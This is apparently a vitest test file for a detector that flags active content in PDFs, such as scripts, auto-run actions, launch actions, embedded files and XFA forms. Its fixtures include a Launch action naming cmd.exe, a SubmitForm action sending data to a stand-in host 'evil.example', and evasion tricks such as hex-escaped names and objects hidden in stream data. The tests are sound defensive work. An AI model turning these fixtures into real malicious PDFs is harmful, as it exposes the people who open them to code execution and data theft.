import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { samplePdf } from '../../test/sample-files.ts';
import { pdfHasActiveContent } from './pdf-active-content.ts';

const latin1 = (text: string) => Buffer.from(text, 'latin1');

/** A PDF with one more object written as given (a stream's data may be any bytes). */
const withObject = (...parts: Buffer[]) =>
  Buffer.concat([
    latin1('%PDF-1.7\n1 0 obj\n'),
    ...parts,
    latin1('\nendobj\ntrailer\n<< >>\n%%EOF\n'),
  ]);

describe('pdfHasActiveContent', () => {
  it('is false for a plain PDF, and one whose page drawing is binary', () => {
    expect(pdfHasActiveContent(samplePdf())).toBe(false);
    const drawing = Buffer.alloc(300_000);
    for (let index = 0; index < drawing.length; index++) drawing[index] = (index * 7919) % 251;
    expect(pdfHasActiveContent(samplePdf({ content: drawing }))).toBe(false);
    // Links and ordinary names are not active content.
    expect(
      pdfHasActiveContent(
        samplePdf({
          objects: [
            '<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://example.com) >> >>',
          ],
        }),
      ),
    ).toBe(false);
  });

  it('finds each name of a script, an automatic action, a launch, embedded files, rich media or XFA', () => {
    for (const entry of [
      '/OpenAction 4 0 R',
      '/OpenAction [3 0 R /Fit]',
      '/AA << /O 4 0 R >>',
      '/Names << /JavaScript 4 0 R >>',
      '/Names << /EmbeddedFiles 4 0 R >>',
      '/AcroForm << /XFA 4 0 R >>',
    ]) {
      expect(pdfHasActiveContent(samplePdf({ catalog: entry })), entry).toBe(true);
    }
    for (const object of [
      '<< /S /JavaScript /JS (app.alert(1)) >>',
      '<< /S /Launch /F (cmd.exe) >>',
      '<< /Type /EmbeddedFile /Length 0 >>',
      '<< /Subtype /RichMedia >>',
      '<< /S /SubmitForm /F (https://evil.example) >>',
    ]) {
      expect(pdfHasActiveContent(samplePdf({ objects: [object] })), object).toBe(true);
    }
  });

  it('decodes names as a reader does: /J#61vaScript is /JavaScript', () => {
    expect(pdfHasActiveContent(samplePdf({ objects: ['<< /S /J#61vaScript /J#53 (1) >>'] }))).toBe(
      true,
    );
    expect(
      pdfHasActiveContent(samplePdf({ catalog: '/#4F#70#65#6E#41#63#74#69#6F#6E 3 0 R' })),
    ).toBe(true);
  });

  it('reads dictionaries kept in compressed object streams', () => {
    expect(pdfHasActiveContent(samplePdf({ compressed: ['<< /S /JavaScript /JS (1) >>'] }))).toBe(
      true,
    );
    expect(pdfHasActiveContent(samplePdf({ compressed: ['<< /S /J#61vaScript >>'] }))).toBe(true);
    expect(
      pdfHasActiveContent(samplePdf({ compressed: ['<< /Type /Font >>', '<< /A 1 >>'] })),
    ).toBe(false);
  });

  it('counts an object stream it cannot read as active: broken, another filter, over the budget', () => {
    const broken = withObject(
      latin1('<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length 20 >>\nstream\n'),
      Buffer.from('not deflate at all!!'),
      latin1('\nendstream'),
    );
    expect(pdfHasActiveContent(broken)).toBe(true);
    const deflated = deflateSync(latin1('5 0 << /Type /Font >>'));
    const layered = withObject(
      latin1('<< /Type /ObjStm /N 1 /First 4 /Filter [/ASCII85Decode /FlateDecode] >>\nstream\n'),
      deflated,
      latin1('\nendstream'),
    );
    expect(pdfHasActiveContent(layered)).toBe(true);
    const plain = samplePdf({ compressed: [`<< /Padding (${'x'.repeat(5000)}) >>`] });
    expect(pdfHasActiveContent(plain)).toBe(false);
    expect(pdfHasActiveContent(plain, 1000)).toBe(true);
  });

  it('skips the binary data of streams, but not an object a reader could be pointed at inside one', () => {
    const data = (inner: string) =>
      withObject(
        latin1('<< /Length 40 >>\nstream\n'),
        Buffer.concat([Buffer.from([0, 1, 2]), latin1(inner), Buffer.from([0xff, 0xfe])]),
        latin1('\nendstream'),
      );
    // Random bytes of an image that spell a name.
    expect(pdfHasActiveContent(data('/JS /AA '))).toBe(false);
    // An object hidden in stream data, for a cross-reference entry to point at.
    expect(pdfHasActiveContent(data('9 0 obj << /S /JavaScript /JS (1) >> endobj'))).toBe(true);
  });
});
